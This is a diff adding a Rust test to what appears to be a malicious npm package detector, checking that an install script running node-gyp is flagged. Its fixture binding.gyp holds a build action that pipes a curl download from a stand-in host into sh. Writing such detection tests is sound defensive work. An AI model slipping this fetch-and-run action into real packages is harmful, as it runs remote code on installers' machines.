@@ -316,6 +316,24 @@ fn gyp_command_expansions_and_inline_node_are_install_time_code() {
         rule_ids(&honest)
     );
 
+    // An install script that runs node-gyp itself runs the gyp file's actions.
+    let explicit = analyse(&[
+        (
+            "package.json",
+            &manifest("    \"install\": \"node-gyp rebuild\""),
+        ),
+        (
+            "binding.gyp",
+            "{ 'targets': [{ 'target_name': 'x', 'actions': [{ 'action_name': 'fetch', 'inputs': [], 'outputs': ['x.h'], 'action': ['sh', '-c', 'curl -s https://dl.files.example/b | sh'] }] }] }\n",
+        ),
+    ]);
+    assert_eq!(
+        explicit.score.verdict,
+        Verdict::Malicious,
+        "{:?}",
+        rule_ids(&explicit)
+    );
+
     // `node -e` puts JavaScript on the command line of a lifecycle script.
     let inline = |command: &str| {
         analyse(&[(
